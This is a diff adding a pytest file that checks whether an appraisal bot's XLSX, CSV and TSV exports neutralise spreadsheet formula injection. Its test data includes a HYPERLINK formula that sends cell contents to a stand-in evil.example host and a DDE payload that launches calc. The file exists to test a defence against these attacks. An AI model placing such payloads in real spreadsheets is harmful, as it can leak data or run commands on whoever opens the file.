@@ -1,0 +1,172 @@
+"""The exports as provincial staff open them: spreadsheets with no live formula whatever officials typed
+or named, no invite code that could still join, indicator detail that agrees with the ranking, and
+evidence filed the way the framework orders it.
+
+A small province (tests/data/e2e-commune.yaml) answers, sends evidence and is appraised over the
+console channel; names, file names, citations and comments are chosen the way a hostile or careless
+user would (a leading `=`, `+`, `-`, `@`).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from bot.catalog import load_path
+from bot.cli import main
+from bot.sheets import text_cell
+from storage.db import Database
+from tests.e2e_support import Province
+from tests.test_appraisal_e2e import DATA, join, province, review
+
+# what a spreadsheet reads as the start of a formula (OWASP, CSV injection)
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+
+HOSTILE_UNIT = '=HYPERLINK("http://evil.example/?leak="&A1,"Xã 70101")'
+HOSTILE_DISTRICT = "+Huyện 701"
+HOSTILE_PROVINCE = "@Tỉnh Thử"
+HOSTILE_FILES = ("=1+2.pdf", "-tru.pdf", "+cong.pdf", "@goi.pdf")
+HOSTILE_CITATION = "=1+1/QĐ-UBND - 15/03/2025 - @SUM(A1:A9) Kế hoạch chuyển đổi số"
+HOSTILE_COMMENTS = ("-Thiếu biên bản nghiệm thu", "@Cần số liệu của VNPT")
+
+
+def run(*argv: str) -> tuple[int, str, str]:
+    out, err = io.StringIO(), io.StringIO()
+    return main(list(argv), out, err), out.getvalue(), err.getvalue()
+
+
+@pytest.fixture
+def hostile(db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Province:
+    """Commune 70101 self-assessed with hostile evidence names and a citation, appraised with hostile
+    comments, then its unit, district and province renamed with hostile names."""
+    monkeypatch.setenv("DTI_FRAMEWORKS_DIR", str(DATA))
+    monkeypatch.setenv("DTI_DATABASE_URL", db.url)
+    p = province(db, tmp_path)
+    monkeypatch.setenv("DTI_EVIDENCE_DIR", str(p.store.root))
+    for i, name in enumerate(HOSTILE_FILES):
+        (p.files / name).write_bytes((p.files / "bc.pdf").read_bytes() + str(i).encode())
+    reviewer = join(p, "rv701", "701", "reviewer")
+    commune = join(p, "c70101", "70101", "leader")
+    commune.say("100", f"/file {p.files}/{HOSTILE_FILES[0]}", f"/file {p.files}/{HOSTILE_FILES[3]}", "#1")
+    commune.say("có", HOSTILE_CITATION, "xong")
+    commune.say("20", f"/file {p.files}/{HOSTILE_FILES[1]}", "#1")
+    commune.say("100", f"/file {p.files}/{HOSTILE_FILES[2]}", "#1")
+    commune.say("có", "nộp", "#1")
+    review(
+        reviewer,
+        "Xã 70101",
+        {"2.1": ("adjust", "10", HOSTILE_COMMENTS[0]), "1.1": ("adjust", "25", HOSTILE_COMMENTS[1])},
+        "🔒 Kết thúc thẩm định",
+    )
+    units = p.files / "rename.tsv"
+    units.write_text(
+        "code\tname\tlevel\tparent\n"
+        f"70\t{HOSTILE_PROVINCE}\tprovince\t\n"
+        f"701\t{HOSTILE_DISTRICT}\tdistrict\t70\n"
+        f"70101\t{HOSTILE_UNIT}\tcommune\t701\n",
+        encoding="utf-8",
+    )
+    code, _, err = run("units", "import", str(units))
+    assert code == 0, err
+    return p
+
+
+def xlsx_texts(path: Path) -> list[str]:
+    """Every text cell of every sheet, after checking that none is a formula (in the file itself and
+    as openpyxl reads it back)."""
+    with zipfile.ZipFile(path) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/"):
+                xml = z.read(name)
+                assert b"<f>" not in xml and b"<f " not in xml, name
+    texts = []
+    for ws in load_workbook(path).worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert not cell.value.startswith(FORMULA_STARTS), (ws.title, cell.coordinate, cell.value)
+                    texts.append(cell.value)
+    return texts
+
+
+def csv_fields(text: str, delimiter: str = ",") -> list[str]:
+    fields = [f for row in csv.reader(io.StringIO(text), delimiter=delimiter) for f in row]
+    for field in fields:
+        assert not field.startswith(FORMULA_STARTS), field
+    return fields
+
+
+# -- issue 20.9: no export has a live formula ------------------------------------------------------------
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_a_text_that_starts_a_formula_is_neutralised(start: str) -> None:
+    assert text_cell(f"{start}SUM(A1)") == f"'{start}SUM(A1)"
+    assert text_cell(f"''{start}x") == f"'''{start}x"  # already quoted: quoted once more, so it reads back
+    assert text_cell("Xã An Bình") == "Xã An Bình" and text_cell("'quoted") == "'quoted"
+    assert text_cell(-5) == -5 and text_cell(None) is None  # numbers stay numbers
+
+
+def test_the_results_workbook_has_no_formula(hostile: Province, tmp_path: Path) -> None:
+    assert run("results", "compute")[0] == 0
+    out = tmp_path / "results.xlsx"
+    code, _, err = run("export", "results", "--out", str(out))
+    assert code == 0, err
+    texts = xlsx_texts(out)
+    assert "'" + HOSTILE_UNIT in texts and "'" + HOSTILE_DISTRICT in texts
+    assert {"'" + c for c in HOSTILE_COMMENTS} <= set(texts)
+    assert {"'" + f for f in HOSTILE_FILES} <= set(texts)
+    assert any(t.startswith("'=1+1/QĐ-UBND – @SUM(A1:A9)") for t in texts)
+
+
+def test_the_evidence_manifest_has_no_formula(hostile: Province, tmp_path: Path) -> None:
+    out = tmp_path / "70101.zip"
+    code, _, err = run("export", "evidence", "--unit", "70101", "--out", str(out))
+    assert code == 0, err
+    with zipfile.ZipFile(out) as z:
+        fields = csv_fields(z.read("manifest.csv").decode("utf-8-sig"))
+    assert {"'" + f for f in HOSTILE_FILES} <= set(fields)
+
+
+def test_the_audit_trail_has_no_formula(hostile: Province, tmp_path: Path) -> None:
+    out = tmp_path / "audit.csv"
+    code, _, err = run("--by", "=cmd|' /C calc'!A0", "export", "audit", "--out", str(out))
+    assert code == 0, err
+    assert run("--by", "=cmd|' /C calc'!A0", "results", "compute")[0] == 0
+    assert run("export", "audit", "--out", str(out))[0] == 0
+    fields = csv_fields(out.read_text(encoding="utf-8-sig"))
+    assert "'=cmd|' /C calc'!A0 (dtibot)" in fields
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv", ".tsv"])
+def test_a_framework_export_has_no_formula(tmp_path: Path, suffix: str) -> None:
+    text = (DATA / "e2e-commune.yaml").read_text(encoding="utf-8")
+    hostile = tmp_path / "hostile.yaml"
+    hostile.write_text(
+        text.replace(
+            "text: Tỷ lệ hộ có cáp quang", 'text: "=HYPERLINK(\\"http://evil\\") hộ có cáp quang"'
+        ).replace("description: Kế hoạch.}", 'description: "-Kế hoạch."}'),
+        encoding="utf-8",
+    )
+    out = tmp_path / f"framework{suffix}"
+    code, _, err = run("framework", "export", str(hostile), "-o", str(out))
+    assert code == 0, err
+    if suffix == ".xlsx":
+        texts = xlsx_texts(out)
+    else:
+        texts = csv_fields(out.read_text(encoding="utf-8"), "\t" if suffix == ".tsv" else ",")
+    assert '\'=HYPERLINK("http://evil") hộ có cáp quang' in texts and "'-Kế hoạch." in texts
+    # and the exported sheet imports back to the same texts
+    back = tmp_path / "back.yaml"
+    code, _, err = run("framework", "import", str(out), "-o", str(back), "--id", "e2e-commune")
+    assert code == 0, err
+    imported = load_path(back).framework
+    one, two = imported.indicator("1.1"), imported.indicator("1.2")
+    assert one is not None and one.text == '=HYPERLINK("http://evil") hộ có cáp quang'
+    assert two is not None and two.evidence.description == "-Kế hoạch."
